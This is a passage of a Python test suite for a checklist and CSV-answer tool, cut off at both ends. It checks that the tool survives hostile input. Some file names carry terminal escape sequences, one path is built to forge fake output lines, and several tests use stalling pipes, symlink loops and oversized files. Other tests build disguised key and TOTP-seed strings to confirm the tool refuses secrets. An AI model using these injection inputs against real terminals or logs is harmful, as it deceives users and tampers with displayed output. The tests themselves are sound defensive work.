                  f"see https://code.example/tree/{H64}/src", f"sha256 of the UE key: {H64}"):
        assert cl.text_problems(value), value            # the key length is never exempt; a joiner needs letters;
                                                         # in a URL only a commit's length is (G4), after a label only
                                                         # a hash's, and never across a word that names a key (FP2)
    assert all(not cl.secret_in(line, near=False) for line in README.read_text(encoding="utf-8").split("\n"))


@test
def d11_a_fifo_never_hangs_and_the_checklist_must_be_a_regular_file():
    if not hasattr(os, "mkfifo"):
        return
    wait = cl.FIFO_WAIT
    try:
        with Sandbox() as box, deadline(20):
            fifo = box.dir / "fifo.csv"
            os.mkfifo(fifo)
            cl.FIFO_WAIT = 0.01                               # nobody writes: refused after the wait
            for args in (("import", fifo), ("items", "--answers", fifo)):
                result = box.run(*args)
                assert result.returncode == 1 and "fifo.csv: no data for 0.01 s" in result.stderr, result
            cl.FIFO_WAIT = 10                                 # a writer: its end of data is the end of the file
            writer = threading.Thread(target=lambda: fifo.write_text("id,answer\nREQ-3,12 sites\n"))
            writer.start()
            result = box.run("import", fifo)
            writer.join()
            assert result.returncode == 0 and "recorded 1 answer" in result.stdout, result
            os.mkfifo(box.dir / "fifo.md")
            for target in ("fifo.md", "."):
                result = run_main("check", "--file", box.dir / target)
                assert result.returncode == 2 and "not a regular file" in result.stderr, result
    finally:
        cl.FIFO_WAIT = wait


@test
def d12_a_symlink_loop_is_a_clear_error():
    with Sandbox() as box:
        (box.dir / "loop.md").symlink_to("loop.md")
        result = run_main("check", "--file", box.dir / "loop.md")
        assert result.returncode == 2 and "loop.md: cannot read:" in result.stderr, result


@test
def d13_errors_while_replacing_are_refusals():
    def failing(code):
        def fail(*args):
            raise OSError(code, os.strerror(code))
        return fail
    for module, name, code in ((shutil, "copymode", errno.EPERM), (os, "replace", errno.EBUSY),
                               (os, "replace", errno.EXDEV)):
        real = getattr(module, name)
        with Sandbox() as box:
            setattr(module, name, failing(code))
            try:
                message = box.refused("id,answer\nREQ-3,12 sites\n", f"cannot replace README.md ({os.strerror(code)}); "
                                      "nothing written")
            finally:
                setattr(module, name, real)
            assert "Traceback" not in message
            assert sorted(p.name for p in box.dir.iterdir()) == ["README.md", "answers.csv"], "a temporary file was left"


@test
def d14_long_unblocks_chains_are_checked_without_recursion():
    n = 1500
    chain = "".join(f'- [ ] <a id="req-{k}"></a>**REQ-{k}** Step {k}.\n  - **Form:** a note.\n'
                    f"  - **Unblocks:** REQ-{k + 1 if k < 99 + n else 100}.\n  - `plan` · requester\n"
                    for k in range(100, 100 + n))
    doc = cl.parse(swap("- [x] <a id=\"req-5\"></a>", chain + "- [x] <a id=\"req-5\"></a>"))
    found = list(cl.unblock_order(doc))
    assert [d.code for d in found] == ["cycle"] and found[0].message.count(" -> ") == n, found[0].message[:200]


@test
def d15_a_huge_csv_stops_early_in_bounded_memory():
    with Sandbox() as box:
        box.refused("id,answer\n" + "REQ-3,x\n" * 10001, "answers.csv:10002: more than 10,000 rows; split the file")
        message = box.refused("id,answer\n" + "NOPE-1,x\n" * 5000, "answers.csv: and more problems")
        assert "more than 200 problems; " in message and message.count("\n") < 60, message[-300:]
        big = box.csv("id,answer\n" + "a\n" * ((cl.MAX_CSV_BYTES - 10) // 2), "big.csv")
        with subprocess.Popen([sys.executable, PROGRAM, "import", str(big), "--file", str(box.doc)],
                              stdout=subprocess.DEVNULL, stderr=subprocess.PIPE) as proc:
            with deadline(30):
                _, status, usage = os.wait4(proc.pid, 0)
            proc.returncode = os.WEXITSTATUS(status)
            err = proc.stderr.read().decode()
        assert proc.returncode == 1 and "big.csv: more than 1,048,576 lines" in err, err[-300:]
        assert usage.ru_maxrss < 200 * 1024, f"{usage.ru_maxrss // 1024} MB"      # ru_maxrss is in KiB on Linux


@test
def d16_long_lines_are_checked_in_linear_time():
    hostile = ["a." * 7500, "## x" + " " * 15000 + "x", "a " * 7500, "0x" * 7500, "Ab1/" * 3750]    # quadratic: minutes
    text = FIXTURE.replace("\n## References", "\n\n" + "\n\n".join(hostile) + "\n\n## References", 1)
    quick(lambda: cl.run_rules(cl.parse(text)), 1)


@test
def d17_control_characters_never_reach_the_terminal():
    with Sandbox() as box:
        results = [run_main("check", "--file", box.dir / "\x1b]0;pwned\x07.md"),
                   box.run("import", box.dir / "\x1b]0;pwned\x07.csv"),
                   box.run("items", "--answers", box.csv("id,answer\nREQ-3,12\n", "\x1b[31mred.csv")),
                   box.run("check", "\x1b[2J"),
                   run_main("check", "--file", box.csv(swap("if `licensed`", "if `LIC-1 is priv\x1b[2Jate`"), "c.md"))]
    for result in results:
        assert result.stdout + result.stderr, result
        assert not any(c in result.stdout + result.stderr for c in "\x1b\x07\x9b"), result
        assert "\\u001b" in result.stdout + result.stderr, result


@test
def d18_a_checklist_the_user_may_not_write_is_refused():
    if not hasattr(os, "geteuid") or os.geteuid() != 0:
        return                                       # needs root, to become another user
    with Sandbox() as box:
        answers = box.csv("id,answer\nREQ-3,12 sites\n")
        box.dir.chmod(0o777)                          # the folder is writable by anyone; README.md only by root
        for path in (box.doc, answers):
            path.chmod(0o644)
        pid = os.fork()
        if pid == 0:
            try:
                os.setgid(65534)
                os.setuid(65534)
                result = run_main("import", answers, "--file", box.doc, cwd=box.dir)
                os._exit(0 if result.returncode == 1 and "read-only" in result.stderr else 1)
            finally:
                os._exit(2)
        _, status = os.waitpid(pid, 0)
        assert os.WEXITSTATUS(status) == 0, "another user's README.md was replaced"
        assert box.doc.stat().st_uid == 0 and "12 sites" not in box.doc.read_text(encoding="utf-8")


@test
def d19_hand_spaced_routing_answers_reimport_as_a_no_op():
    hand = swap('- [ ] <a id="req-1"></a>**REQ-1** What the result is for.\n'
                "  - **Form:** One or more of: `teaching`, `product`.",
                '- [x] <a id="req-1"></a>**REQ-1** What the result is for.\n'
                "  - **Form:** One or more of: `teaching`, `product`.\n  - **Answer:** `teaching`,`product`;lab only")
    with Sandbox(hand) as box:
        assert box.run("check").returncode == 0
        exported = box.run("items", "--format", "csv").stdout
        before = box.doc.read_bytes()
        for flags in ((), ("--replace",)):
            result = box.run("import", box.csv(exported), *flags)
            assert result.returncode == 0 and "nothing to record" in result.stdout, result
            assert box.doc.read_bytes() == before
        listed = json.loads(box.run("items", "--answers", box.csv(exported), "--format", "json").stdout)["items"]
        assert not next(r for r in listed if r["id"] == "REQ-1")["assumed"]


@test
def d20_empty_option_values_are_usage_errors():
    with Sandbox() as box:
        answers = box.csv("id,answer\nREQ-3,12\n")
        for args in (("items", "--party", ""), ("items", "--involving", ""), ("items", "--stage", ""),
                     ("items", "--profile", ""), ("status", "--answers", ""), ("profiles", "--show", ""),
                     ("form", "-o", ""), ("import", "")):
            result = box.run(*args)
            assert result.returncode == 2 and "may not be empty" in result.stderr, (args, result)
        result = run_main("import", answers, "--file", "", cwd=box.dir)
        assert result.returncode == 2 and "may not be empty" in result.stderr, result


@test
def d21_message_nits():
    with Sandbox() as box:
        box.accepted(b"\xef\xbb\xbf\xef\xbb\xbfid,answer\nREQ-3,12 sites\n")
        text = box.accepted('id,answer\nREQ-4, "36, 40, 44"\n')
        assert "**Answer:** 36, 40, 44" in text
    refuse("id,answer\nREQ-4(b),36\n", 'answer lettered parts inside the item\'s one answer: REQ-4,"(b) ..."')
    with Sandbox() as box:
        box.accepted("id,answer\nREQ-3,Mu\u0308nchen\n")
        assert "**Answer:** M\u00fcnchen" in box.doc.read_text(encoding="utf-8")
        result = box.run("import", box.csv("id,answer\nREQ-3,M\u00fcnchen\n"))
        assert result.returncode == 0 and "nothing to record" in result.stdout, result
        result = box.run("import", "no-such.csv")
        assert result.returncode == 1 and "no-such.csv: cannot read" in result.stderr, result
    assert "a CSV that cannot be read is refused input" in cl.__doc__ and "a checklist that cannot be read" in cl.__doc__


# ---------------------------------------------------------------- hostile input, third review (E1 to E14)

K256 = "9e1c5f7a3b2d4e6f80a1b2c3d4e5f60718293a4b5c6d7e8f9012a3b4c5d6e7f8"


def accepted_as_text(*values):
    """Each value passes the answer rules (no problem at all)."""
    assert [(value, cl.text_problems(value)) for value in values if cl.text_problems(value)] == []


@test
def e01_hex_pieces_of_up_to_31_digits_are_joined():
    refused_as_secret("K " + K[:17] + " " + K[17:], "K " + K[:24] + " " + K[24:], "K " + K[:17] + "  " + K[17:],
                      "K " + K[:31] + "-" + K[31:], "K " + K256[:30] + " " + K256[30:50] + " " + K256[50:])
    accepted_as_text(f"sha256 {H64} sha256 {H64[::-1]}", f"commit {H40}, commit {H40[::-1]}")   # hashes stay apart


@test
def e02_more_separators_and_markdown_escapes_do_not_hide_a_key():
    separated = ["K " + sep.join(pairs(K)) for sep in ("/", "|", "'", ";", "%", "\\", "\u2010", "\u2011", "\u2013",
                                                       "\u2015", "\u2212", " ; ", "\uff0f")]
    refused_as_secret(*separated, "K " + " ; ".join(pairs(K, 8)), "K " + K.upper()[:16] + "'" + K.upper()[16:],
                      "K=" + "".join("%" + p.upper() for p in pairs(K)), "K " + K[:16] + "\\-" + K[16:],
                      "K " + "\u2013".join(pairs(K, 4)), "K Rltc6LGZtJ\\+qXwou4jimvA\\=\\=")
    accepted_as_text("dates 2026-12-01; 2026-12-08 | 10.45.0.0/16 | 2027-01-15", "C:\\Users\\lab\\fw\\b210.bin",
                     "rooms 1a/2b/3c; racks 4d|5e|6f", "see https://dms.example/a/b/c/d/e/f/12/34%20x")


@test
def e03_a_hash_word_counts_only_as_a_whole_word_just_before_the_digest():
    refused_as_secret("digital signature key " + K256, "AES-256 key for the legitimate test UE: " + K256,
                      "256-bit K (64 hex digits) " + K256, "OPc, Ed25519 seed for the AMF: " + K256 + " (no digest)",
                      "WireGuard private key (hex) " + K256 + "; registered with the committee",
                      "commit-free key " + K256[:40], "K " + K256[:40] + " from the SIM vendor's digital file",
                      f"{H64}  fw.bin (sha256sum)", "sha256 of the image we ship to every customer site: " + K256)
    accepted_as_text(f"sha256:{H64}", f"SHA-256 {H64}", f"git {H40}", f"image digest sha256:{H64}", f"Commit {H40}",
                     f"ghcr.io/open5gs/open5gs@sha256:{H64}", f"sha3-256 {H64}", f"blake2b {H64 * 2}",
                     f"fingerprint (SHA256) = {H64}", f"checksum: {H40}")


@test
def e04_short_base32_grouped_base64_and_padded_url_segments_are_keys():
    refused_as_secret("TOTP seed JBSWY3DPEHPK3PXP", "totp setup key jbsw y3dp ehpk 3pxp", "seed JBSW-Y3DP-EHPK-3PXP",
                      "seed mfrggzdfmztwq2lk", "K Rltc6LGZtJ+q.Xwou4jimvA==", "K Rltc6LGZ tJ+qXwou 4jimvA==",
                      "K Rltc.6LGZ.tJ+q.Xwou.4jim.vA==", "K at https://kms.example/keys/Rltc6LGZtJ+qXwou4jimvA==",
                      "research JBSW Y3DP EHPK 3PXP JBSW Y3DP")
    accepted_as_text("internationalization", "STRAIGHTFORWARDLY", "students research projects",
                     "with residual-risk thresholds", "this kind with strength", "3GPP Security Assurance",
                     "see engineerings-proposed-defaults-for a lab", "Installation.md and Organisation.Department",
                     "https://example.org/search/name=value/list", "version 1234.5678.9012.3456")


@test
def e05_a_pipe_that_stalls_is_refused_never_cut_off():
    wait = cl.FIFO_WAIT
    try:
        with Sandbox() as box, deadline(10):
            cl.FIFO_WAIT = 0.01
            for command, given, message in ((("import",), "id,answer\nREQ-3,Germ", "the input stopped for 0.01 s before "
                                             "its end; nothing recorded"), (("items", "--answers"), "", "no data for 0.01 s")):
                read, write = os.pipe()                       # the writer stays open: the data has no end
                os.write(write, given.encode())
                result = box.run(*command, f"/dev/fd/{read}")
                os.close(read)
                os.close(write)
                assert result.returncode == 1 and f"/dev/fd/{read}: {message}" in result.stderr, (command, result)
            assert "Germ" not in box.doc.read_text(encoding="utf-8")
            read, write = os.pipe()                           # data that pauses, never for the whole wait
            cl.FIFO_WAIT = 0.05

            def trickle():
                for piece in ("id,answer\n", "REQ-3,Germ", "any and France\n"):
                    time.sleep(0.015)
                    os.write(write, piece.encode())
                os.close(write)
            writer = threading.Thread(target=trickle)
            writer.start()
            result = box.run("import", f"/dev/fd/{read}")
            writer.join()
            os.close(read)
            assert result.returncode == 0 and "**Answer:** Germany and France" in box.doc.read_text(encoding="utf-8"), result
    finally:
        cl.FIFO_WAIT = wait


@test
def e07_a_line_right_after_an_item_is_refused_before_an_answer_joins_it():
    text = swap("  - **Unblocks:** sizing.\n  - `plan` · requester\n",
                "  - **Unblocks:** sizing.\n  - `plan` · requester\nBuyers: list transit countries too.\n")
    found = defects(text)
    assert [(d.line, d.code, d.message) for d in found] == [(line_of(text, "Buyers:"), "item-format", "a line right "
                                                             "after an item continues it; leave a blank line before it")]
    refuse("id,answer\nREQ-3,Germany\n", "[item-format] a line right after an item continues it", text=text)
    for after in ("- a list item", "1. a numbered one", "### Heading", "```text"):    # a block of its own
        assert not [d for d in defects(swap("sizing.\n  - `plan` · requester\n", f"sizing.\n  - `plan` · requester\n"
                                            f"{after}\n")) if "right after" in d.message], after


@test
def e08_form_never_overwrites_the_checklist_its_answers_or_another_file():
    with Sandbox() as box:
        answers = box.csv("id,answer\nREQ-3,12 sites\n")
        notes = box.dir / "notes.txt"
        notes.write_text("mine", encoding="utf-8")
        saved = box.csv("\ufeffid,answer\nREQ-4,`none`\n", "counsel-answers.html")   # a CSV under a page's name (H56)
        report = box.csv("<!DOCTYPE html><title>Site survey</title>", "report.html")       # another program's page (H57)
        (box.dir / "page.html").symlink_to("README.md")
        before = {path: path.read_bytes() for path in (box.doc, answers, notes, saved, report)}
        for target, message in ((box.doc, "README.md is the checklist"), ("page.html", "page.html is the checklist"),
                                ("./answers.csv", "answers.csv is the --answers CSV"),
                                (notes, "notes.txt exists and is not a page 'form' wrote"),
                                (saved, "counsel-answers.html exists and is not a page 'form' wrote"),
                                (report, "report.html exists and is not a page 'form' wrote")):
            result = box.run("form", "--answers", answers, "-o", target)
            assert result.returncode == 2 and message in result.stderr, (target, result)
        assert all(path.read_bytes() == data for path, data in before.items())
        for target in ("new.htm", "new.htm", "fresh.txt", "Page.HTML"):              # a new file, or an old page
            assert box.run("form", "-o", target).returncode == 0, target
        assert (box.dir / "fresh.txt").read_text(encoding="utf-8").startswith("<!DOCTYPE html>")


@test
def e09_mac_addresses_pass_and_the_refusal_says_what_to_record():
    accepted_as_text("gNB MACs 00:1a:2b:3c:4d:5e, 00:1a:2b:3c:4d:5f, 00:1a:2b:3c:4d:60",
                     "switch ports 00-1A-2B-3C-4D-5E and 00-1A-2B-3C-4D-5F, ru 00:1a:2b:3c:4d:61")
    refused_as_secret(":".join(pairs(K)), "-".join(pairs(K)), ":".join(pairs(K[:12])) + "-" + "-".join(pairs(K[12:])))
    message = refuse("id,answer\nREQ-3,plan at https://www.notion.so/acme/Plan-1a2b3c4d5e6f47a8b9c0d1e2f3a4b5c6\n",
                     "record a pointer without the 32-digit run, e.g. the page title")
    assert "confidential channel" in message, message


@test
def e10_check_reads_a_routing_answer_as_import_reads_its_export():
    lic1 = ('- [ ] <a id="lic-1"></a>**LIC-1** Whether licensed material is used.\n'
            "  - **Form:** One of: `yes`, `no`, `undecided`.")
    for answer, clean in (("`no` (public standards only)", False), ("`no`: public standards only", False),
                          ("not needed: no licence", False), ("`no`;public standards only", True),
                          ("`no` ; public standards only", True), ("`no`", True)):
        text = swap(lic1, lic1.replace("- [ ]", "- [x]") + "\n  - **Answer:** " + answer)
        found = defects(text)
        assert (found == []) == clean and all(d.code == "answer" for d in found), (answer, found)
        with Sandbox(text) as box:                        # an export shows it as recorded, and never re-records it
            exported = box.run("items", "--format", "csv").stdout.lstrip("\ufeff").split("\n", 1)[1]
            row = next(r for r in csv.DictReader(io.StringIO(exported)) if r["id"] == "LIC-1")
            assert (row["recorded"], row["answer"]) == (answer, ""), row
            result = box.run("import", box.csv(exported))
            assert result.returncode == 0 and "nothing to record" in result.stdout, (answer, result)


@test
def e11_not_applicable_is_not_an_answer():
    for value in ("n/a", "N/A", "na", "NA", "#N/A", "#n/a", "N.A.", "`n/a`", " n/a "):    # free text: H14-3's message
        refuse(f"id,answer\nREQ-3,{value}\n", "is no answer: leave the cell empty until it is known, or write "
               "'not needed: <reason>'")
        refuse(f"id,answer\nLIC-1,{value}\n", "is not an answer: write 'not needed:' and the reason instead")
    with Sandbox() as box:
        box.accepted("id,answer\nREQ-3,none\nREQ-4,NA-1 socket and n/a for the rest\n")


@test
def e12_characters_newer_than_pythons_unicode_are_accepted():
    with Sandbox() as box:
        text = box.accepted("id,answer\nREQ-3,Germany \U0001FAE8 (tbc by legal) \u0378\n")
        assert "**Answer:** Germany \U0001FAE8 (tbc by legal) \u0378" in text


@test
def e13_paths_are_escaped_wherever_they_are_echoed():
    with Sandbox() as box:
        forged = "a\nREADME.md: recorded 1 answer: REQ-3.\n.csv"
        cases = [(box.run("import", box.csv("id,answer\nNOPE-1,x\n", forged)).stderr,
                  "a\\u000aREADME.md: recorded 1 answer: REQ-3.\\u000a.csv:2: 'NOPE-1' is not an item"),
                 (box.run("items", "--answers", box.csv("id,answer\nREQ-1,teaching\n", "\x1b[2J\x1b]0;pwned\x07.csv"),
                          "--format", "csv").stdout, "\\u001b[2J\\u001b]0;pwned\\u0007.csv)"),
                 (run_main("check", "--file", box.csv(swap("| `lab` | Teaching lab | 4 |", "| `lab` | x | 5 |"),
                                                      "c\rd\n.md")).stdout, "c\\u000dd\\u000a.md:24: [profile]"),
                 (box.run("form", "-o", box.dir / "p\x1b[31m.html").stderr, "p\\u001b[31m.html: written")]
        for out, expected in cases:
            assert expected in out and not any(c in out for c in "\x1b\x07\r"), out
        assert [cases[k][0].count("\n") for k in (0, 2, 3)] == [2, 1, 1], "a path made a line of its own"


@test
def e14_html_comments_outside_code_are_hidden_text():
    text = swap("used by the tests.", "used by the tests: `<!--` in code,")
    assert defects(text) == [], defects(text)
    refuse("id,answer\nREQ-3,Germany\n", "[hidden-text] an HTML comment hides text from readers",
           text=swap("used by the tests.", "used by the tests.\n\n<!--\nhidden\n-->"))


# ---------------------------------------------------------------- new-user reviews, fourth round (C1 to C7)
# Their fixes: provisional answers, states, the answers so far and the links
# and outside facts of every packet, and the form's words for a party that is not the requester.

REQ3_BLOCKER = ("| 3 | [REQ-2](#req-2) | Which parts are built |",
                "| 3 | [REQ-2](#req-2) | Which parts are built |\n| 4 | [REQ-3](#req-3) | The number of sites |")
# An Outside-context section, and links from REQ-3 to it, to a section, to an item never listed for `lab` and to one
# always listed
CONTEXT_SECTION = ("## Outside context: reports\n\nNone of this is an answer. Facts are as of 1 May 2026 unless "
                   "dated.\n\n"
                   '- <a id="ctx-de"></a>**Germany.** Rules one.\n'
                   '- <a id="ctx-us"></a>**United States, export controls.** Rules two, as of 3 June 2026.\n'
                   "  - **Sub.** Deeper: [the checklist](#the-checklist).\n"
                   '- <a id="ctx-ca"></a>**Canada.** Rules three.\n\n')
REQ3_NOTE = ("  - **Form:** a number.\n", "  - **Form:** a number.\n  - **Note:** [German rules](#ctx-de); "
             "[the stages](#how-to-use-this-checklist); [LIC-2](#lic-2), [REQ-1](#req-1).\n")


def record(text, answers):
    """The text with these answers ({id: text as recorded}) recorded, as import records them."""
    return cl.apply_answers(text, cl.parse(text), {iid: (answer, 0) for iid, answer in answers.items()})


def with_req3_a_blocker(text=FIXTURE):
    """The fixture with REQ-3 (free text, no routing item) a blocker, like the README's."""
    return swap("  - `plan` · requester\n", "  - `blocker` · requester\n", swap(*REQ3_BLOCKER, text))


def with_outside_context(text=FIXTURE):
    return swap(*REQ3_NOTE, swap("## The checklist\n", CONTEXT_SECTION + "## The checklist\n", text))


def states_of(box, *args):
    return {r["id"]: r["state"] for r in json.loads(box.run("status", *args, "--format", "json").stdout)}


@test
def c1_provisional_tokens_are_the_ones_an_item_declares():
    doc, fixture = cl.load(str(README)), cl.parse(FIXTURE)
    for iid, declared in doc.routing().items():
        for token in declared.values:
            assert cl.provisional(doc.items[iid], [token]) == (token in cl.PROVISIONAL), (iid, token)
    assert cl.provisional(doc.items["EXP-1"], ["pending"]) and cl.provisional(doc.items["REQ-4"], ["undecided"])
    lic1 = fixture.items["LIC-1"]
    assert cl.provisional(lic1, ["undecided"]) and not cl.provisional(lic1, ["pending"])    # not declared there
    assert not cl.provisional(lic1, []) and not cl.provisional(fixture.items["REQ-3"], ["undecided"])


@test
def c1_a_provisional_answer_routes_the_list_but_leaves_its_item_open():
    routing = 'id,answer\nREQ-1,teaching\nREQ-2,"ap=build, radio=out"\n'
    with Sandbox(record(FIXTURE, {"LIC-1": "`undecided`; board meets in May"})) as box:
        assert box.run("check").returncode == 0
        box.csv(routing, "mine.csv")
        status = box.run("status", "--answers", "mine.csv").stdout
        assert "## Open blockers, in order\n\n1. LIC-1: Whether licensed material is used. (requester; recorded " \
               "`undecided`)\n\n## Next to answer" in status, status
        assert states_of(box, "--answers", "mine.csv")["LIC-1"] == "open"
        listed = box.run("items", "--answers", "mine.csv").stdout
        assert '\n- [ ] <a id="lic-1"></a>**LIC-1** Whether licensed material is used.\n' in listed, listed
        assert "\n  - **Answer (provisional):** `undecided`; board meets in May\n" in listed, listed
        assert "**LIC-2**" in listed and "**DEL-1**" in listed, "it no longer routes as `undecided`"
    with Sandbox() as box:                            # given in a CSV: the same; import records it as before
        box.csv(routing + "LIC-1,undecided\n", "mine.csv")
        status = box.run("status", "--answers", "mine.csv").stdout
        assert "\n1. LIC-1: Whether licensed material is used. (requester; `undecided` given in mine.csv)\n" in status
        assert states_of(box, "--answers", "mine.csv") == {"REQ-1": "answered", "LIC-1": "open", "REQ-2": "answered",
                                                          "REQ-3": "open", "LIC-2": "open", "DEL-1": "open"}
        listed = box.run("items", "--answers", "mine.csv").stdout
        assert "\n  - **Given, not recorded (provisional):** `undecided` (mine.csv)\n" in listed, listed
        assert "**Answer:** `undecided`" in box.accepted(routing + "LIC-1,undecided\n")


@test
def c2_an_answered_item_is_answered_even_while_its_condition_waits():
    with Sandbox(record(FIXTURE, {"REQ-4": "channels 36 to 48"})) as box:
        box.csv("id,answer\nDEL-2,not needed: no radios\nREQ-3,12\n", "mine.csv")
        states = states_of(box, "--answers", "mine.csv")
        assert states == {"REQ-1": "open", "LIC-1": "open", "REQ-2": "open", "REQ-3": "answered", "REQ-4": "answered",
                          "LIC-2": "waiting", "DEL-1": "waiting", "DEL-2": "not needed"}, states


@test
def c3_every_packet_carries_the_answers_so_far():
    text = record(with_req3_a_blocker(), {"REQ-3": "12 sites in Germany"})
    lines = ["REQ-1 `teaching` (assumed by profile lab)", "LIC-1 `yes`; term sheet only (given in mine.csv)",
             "REQ-2 `ap=build`, `radio=out` (assumed by profile lab)", "REQ-3 12 sites in Germany (recorded)"]
    so_far = "Answers so far:\n\n" + "".join(f"- {line}\n" for line in lines) + "\n"
    with Sandbox(text) as box:
        assert box.run("check").returncode == 0
        box.csv("id,answer\nLIC-1,yes; term sheet only\n", "mine.csv")
        args = ("--profile", "lab", "--answers", "mine.csv")
        md = box.run("items", *args).stdout
        assert md.startswith("# Items that apply, given profile `lab` and the answers recorded and the answers in mine.csv\n\nYour role: "
                             "**builder**. Answer an item written for someone else with the value the system must "
                             "meet\n\n" + so_far), md[:900]
        assert "\n\n" + so_far in box.run("status", *args).stdout
        context = json.loads(box.run("items", *args, "--format", "json").stdout)["context"]
        assert context == {"REQ-1": {"answer": "`teaching`", "origin": "assumed by profile lab", "provisional": False},
                           "LIC-1": {"answer": "`yes`; term sheet only", "origin": "given in mine.csv",
                                     "provisional": False},
                           "REQ-2": {"answer": "`ap=build`, `radio=out`", "origin": "assumed by profile lab",
                                     "provisional": False},
                           "REQ-3": {"answer": "12 sites in Germany", "origin": "recorded", "provisional": False}}
        exported = box.run("items", *args, "--format", "csv").stdout
        first, rest = exported.lstrip("\ufeff").split("\n", 1)
        assert next(csv.reader([first])) == [f"# {cl.SHEET_HINT} Role: builder. Answer an item written for someone "
                                             "else with the value the system must meet (routing: profile `lab` and the answers "
                                             "recorded and the answers in mine.csv). Answers so far: " +
                                             "; ".join(lines) + "."]
        assert [r["id"] for r in csv.DictReader(io.StringIO(rest))][:4] == ["REQ-1", "LIC-1", "REQ-2", "REQ-3"]
        before = box.doc.read_bytes()
        result = box.run("import", box.csv(exported, "export.csv"))
        assert result.returncode == 0 and "nothing to record" in result.stdout and box.doc.read_bytes() == before
        assert "Answers so far" not in run_main("items", "--file", box.csv(FIXTURE, "plain.md")).stdout


@test
def c4_markdown_packets_keep_their_links_working_and_cite_their_outside_facts():
    with Sandbox(with_outside_context()) as box:
        assert box.run("check").returncode == 0
        md = box.run("items", "--profile", "lab").stdout
        assert '\n- [ ] <a id="req-3"></a>**REQ-3** The number of sites.\n' in md, md
        assert ("\n  - **Note:** [German rules](#ctx-de); the stages (README.md, \"How to use this checklist\"); "
                "[LIC-2](#lic-2), [REQ-1](#req-1).\n") in md, md
        assert md.endswith("\n\n## Items named above but not in this list\n\n"
                           "Another party's, or not applying to these answers; given so that the references above "
                           "can be read.\n\n"
                           '- <a id="lic-2"></a>**LIC-2** Where the licence stands. Form: a signed term sheet.\n'
                           "\n## Outside facts these items cite\n\nFacts are as of 1 May 2026 unless dated.\n\n"
                           '- <a id="ctx-de"></a>**Germany.** Rules one. (as of 1 May 2026)\n'), md[-400:]
        note = {r["id"]: r["note"] for r in csv.DictReader(io.StringIO(
            box.run("items", "--profile", "lab", "--format", "csv").stdout.split("\n", 1)[1]))}["REQ-3"]
        assert note == ('German rules (the checklist, "Outside context: reports"); the stages (the checklist, "How to use '
                        'this checklist"); LIC-2, REQ-1.'), note
        assert "](#" not in box.run("items", "--profile", "vendor", "--format", "csv").stdout
        data = json.loads(box.run("items", "--profile", "lab", "--format", "json").stdout)
        kept = next(r for r in data["items"] if r["id"] == "REQ-3")["note"]
        assert kept == REQ3_NOTE[1].split("**Note:** ")[1].strip(), kept          # JSON keeps the Markdown


@test
def c4_markdown_packets_of_the_checklist_link_only_within_themselves():
    doc, facts = cl.load(str(README)), set()
    for key, party in (("lab", None), ("vendor", "counsel"), ("buyer", "operator")):
        args = argparse.Namespace(profile=key, answers=None, party=party, involving=None, stage=None, group=None, format="md")
        md = cl.cmd_items(doc, args).text
        anchors = set(re.findall(r'<a id="([^"]+)"></a>', md))
        listed = re.findall(r'^- \[[ x]\] <a id="([^"]+)"></a>\*\*([A-Z]+-\d+)\*\* ', md, re.M)
        assert listed and all(anchor == iid.lower() for anchor, iid in listed), (key, listed[:3])
        dangling = sorted({t for t in re.findall(r"\]\(#([^)]+)\)", md) if t not in anchors})
        assert not dangling, (key, party, dangling)
        facts |= {a for a in anchors if a.startswith("ctx-")}
    assert facts, "no packet cites an outside fact"
    args = argparse.Namespace(profile="vendor", answers=None, party=None, involving=None, stage=None, group=None, format="csv")
    assert "](#" not in cl.cmd_items(doc, args).text, "a spreadsheet cell holds a Markdown link"


@test
def c6_packets_for_another_party_name_the_requesters_role():
    with Sandbox() as box:
        for party, whose in (("counsel", "Requester's role"), ("requester", "Your role")):
            involving = box.run("items", "--profile", "vendor", "--involving", party).stdout
            assert f"\n\n{whose}: **maker**." in involving, "--involving names the role as --party does"
            md = box.run("items", "--profile", "vendor", "--party", party).stdout
            assert f"\n\n{whose}: **maker**. Answer an item written for someone else with what the product must " \
                   "support\n\n" in md, md
            exported = box.run("items", "--profile", "vendor", "--party", party, "--format", "csv").stdout
            first = next(csv.reader(io.StringIO(exported.lstrip("\ufeff"))))[0]
            assert first.startswith(f"# {cl.SHEET_HINT} {whose if party == 'counsel' else 'Role'}: maker. Answer an item"), first


@test
def c7_the_facts_of_the_countries_named_join_the_packet():
    text = record(with_outside_context(), {"REQ-3": "12 sites in Canada and the united states"})
    with Sandbox(text) as box:
        md = box.run("items", "--profile", "lab").stdout
        assert md.endswith("## Outside facts these items cite\n\nFacts are as of 1 May 2026 unless dated.\n\n"
                           '- <a id="ctx-de"></a>**Germany.** Rules one. (as of 1 May 2026)\n'
                           '- <a id="ctx-us"></a>**United States, export controls.** Rules two, as of 3 June 2026.\n'
                           '  - **Sub.** Deeper: the checklist (README.md, "The checklist").\n'
                           '- <a id="ctx-ca"></a>**Canada.** Rules three. (as of 1 May 2026)\n'), md[-600:]
    context = cl.outside_context(cl.parse(with_outside_context()))
    assert [b["country"] for b in context["bullets"]] == ["Germany", "United States", "Canada"]
    assert cl.country_anchors(context, "GERMANY, Canadas and the United-States") == {"ctx-de"}


# ---------------------------------------------------------------- hostile input, fourth review (G1 to G15, P12)
# Each refusal is checked word for word, with the checklist byte-for-byte unchanged.

HEX_KEY = ("a key (32 or more hex digits, like a subscriber key K or OPc; a page or message ID that holds such a run "
           "counts too: record a pointer without the 32-digit run, e.g. the page title)")
BASE64 = "encoded key material (a base64 run)"
K64 = "Rltc6LGZtJ+qXwou4jimvA=="                           # K in base64


def secret_refused(kind, *values):
    """Each value, as REQ-3's answer, is refused as exactly `kind` of secret; check's rule finds it too."""
    with Sandbox() as box:
        for value in values:
            cell = '"' + value.replace('"', '""') + '"'
            refused_exactly(box, f"id,answer\nREQ-3,{cell}\n", f"2: REQ-3: {refusal(kind, value)}")
            assert cl.secret_in(value) == kind, value


def refusal(kind, value):
    """The refusal of a secret of this kind in `value`: a labelled password's names its judged token and label
    (H12-1), each found in the value as scanned (or percent-decoded); other kinds are described."""
    if kind != cl.LABELLED_PASSWORD:
        return f"this looks like {kind}; {cl.CONFIDENTIAL}"
    _, token, label = cl.secret_found(value)
    scans = list(cl.scans(value))
    assert token and any(token in text for text in scans) and label, (value, token, label)
    return f"{cl.masked(token)} after '{cl.shown(label)}' looks like a password; {cl.CONFIDENTIAL}"


@test
def g01_a_value_under_an_unnamed_header_column_is_refused():
    advice = "which the header leaves unnamed: put the answer in quotes if it contains"
    with Sandbox() as box:
        refused_exactly(box, "id,answer,\nREQ-1,teaching, product\nREQ-4,36, 40\n",
